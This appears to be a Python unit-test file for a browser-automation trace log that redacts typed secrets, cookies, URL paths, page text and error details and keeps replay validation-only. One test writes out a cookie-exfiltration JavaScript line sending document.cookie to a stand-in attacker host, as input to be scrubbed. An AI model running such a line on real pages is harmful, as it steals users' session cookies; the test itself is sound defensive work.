"""The reference's own TraceLog unit tests (src/mcp/trace.rs, its tests 1-8; docs/contract.md#bounds), ported."""

from __future__ import annotations

import hashlib

from plasmate_nb.trace import (
    MAX_EVENTS,
    MAX_EXPORT_BYTES,
    PageState,
    ReplayRequest,
    TraceLog,
    compact_json,
    sanitize_parameters,
)
from tests.trace.trace_testkit import KNOWN_KEY, element, log_with_known_key, page, record_simple, som


def test_1_typed_and_selected_secrets_never_appear_in_serialized_parameters() -> None:
    typed = compact_json(
        sanitize_parameters("type_text", {"session_id": "s", "element_id": "e1", "text": "hunter2"})
    )
    selected = compact_json(
        sanitize_parameters("select_option", {"session_id": "s", "element_id": "e1", "value": "private-plan"})
    )
    for text in (typed, selected):
        assert "hunter2" not in text and "private-plan" not in text and "sha256" not in text
    assert sanitize_parameters("type_text", {"text": "hunter2"})["value"]["byte_length"] == 7
    assert sanitize_parameters("select_option", {"value": "private-plan"})["value"]["byte_length"] == 12


def test_2_javascript_and_cookie_mutations_retain_no_raw_inputs() -> None:
    expression = "fetch('https://evil.example/'+document.cookie)"
    cookies = [{"name": "session_token", "value": "tok-9f8e7d", "domain": "bank.example"}]
    evaluate = sanitize_parameters("evaluate", {"session_id": "s", "expression": expression})
    set_cookies = sanitize_parameters("set_cookies", {"session_id": "s", "cookies": cookies})
    clear_cookies = sanitize_parameters(
        "clear_cookies", {"session_id": "s", "name": "session_token", "domain": "bank.example"}
    )
    text = compact_json([evaluate, set_cookies, clear_cookies])
    for secret in (expression, "document.cookie", "session_token", "tok-9f8e7d", "bank.example"):
        assert secret not in text
    assert set_cookies["cookie_count"] == 1
    assert clear_cookies["filter_present"] is True


def test_3_url_paths_and_page_content_use_non_exported_session_key() -> None:
    url = "https://user:passw0rd@example.com/private/path?query=secret-q#frag-x"
    som_dict = som(
        element("e1", "button", label="Submit", actions=["click"], attrs={"name": "submit-button"})
    )
    page_now = page(url, som_dict)
    log = log_with_known_key()
    navigate = sanitize_parameters("navigate_to", {"session_id": "s", "url": url}, log.key)
    log.record(
        "navigate_to", navigate, None, log.state(PageState(None, None, None)), log.state(page_now), None, 3
    )
    state = log.state(page_now)
    log.record(
        "click",
        sanitize_parameters("click", {"element_id": "e1"}),
        log.target(page_now, "e1"),
        state,
        state,
        None,
        2,
    )
    text = compact_json(log.export("s"))
    for leaked in (
        "/private/path",
        "query=secret-q",
        "secret-q",
        "frag-x",
        "passw0rd",
        "user:",
        "Submit",
        "submit-button",
        '"e1"',
    ):
        assert leaked not in text, leaked
    assert hashlib.sha256(b"Submit").hexdigest() not in text
    assert KNOWN_KEY.hex() not in text
    assert "https://example.com:443" in text  # only the origin remains readable
    other = TraceLog(True)
    assert other.state(page_now)["fingerprint"] != log.state(page_now)["fingerprint"]


def test_4_eviction_is_deterministic_and_sequence_never_rewinds() -> None:
    log = TraceLog(True)
    total = 131
    for _ in range(total):
        record_simple(log, "scroll")
    status = log.status()
    retained = status["retained_events"]
    assert retained <= MAX_EVENTS
    assert log.export("s")["events"][0]["sequence"] == total - retained + 1
    assert status["evicted_events"] == total - retained
    assert status["next_sequence"] == 132
    assert len(compact_json(log.export("s")).encode()) <= MAX_EXPORT_BYTES


def test_5_repeated_exports_are_byte_identical() -> None:
    log = TraceLog(True)
    for index in range(10):
        record_simple(log, "scroll", direction="down" if index % 2 else "up")
    assert compact_json(log.export("s")) == compact_json(log.export("s"))


def test_6_failed_actions_store_only_a_coarse_error_class() -> None:
    log = TraceLog(True)
    record_simple(
        log, "navigate_to", error="Navigation failed: bearer top-secret", url="https://example.com/"
    )
    (event,) = log.export("s")["events"]
    assert event["error_class"] == "network" and event["outcome"] == "error"
    assert "top-secret" not in compact_json(log.export("s"))


def test_7_replay_is_session_bound_detects_drift_and_never_executes() -> None:
    url = "http://127.0.0.1:8000/form"
    button = element("e1", "button", label="Submit", actions=["click"])
    page_now = page(url, som(button, title="Form"))
    log = TraceLog(True)
    state = log.state(page_now)
    sequence = log.record("click", {}, log.target(page_now, "e1"), state, state, None, 1)

    def ask(trace_id: str, current: PageState, confirmed: bool = False) -> dict:
        return log.replay_validate(ReplayRequest("session", trace_id, sequence, confirmed), current)

    assert ask("not-the-live-trace", page_now)["drift"] == "cross_session"
    plan = ask(log.trace_id, page_now)
    assert plan["status"] == "confirmation_required"
    assert plan["side_effects"] is False and plan["execution_available"] is False
    assert ask(log.trace_id, page(url, som(button, title="Form v2")))["drift"] == "state_drift"
    emptied = page(url, {**som(title="Form"), "regions": []})
    assert ask(log.trace_id, emptied)["drift"] == "target_missing"
    done = ask(log.trace_id, page_now, confirmed=True)
    assert done["status"] == "validated" and done["execution"] == "validation_only"
    assert done["execution_available"] is False


def test_8_clear_preserves_monotonic_sequence() -> None:
    log = TraceLog(True)
    assert record_simple(log, "scroll") == 1
    assert log.clear() == 1
    assert record_simple(log, "scroll") == 2
    assert log.status()["cleared_events"] == 1
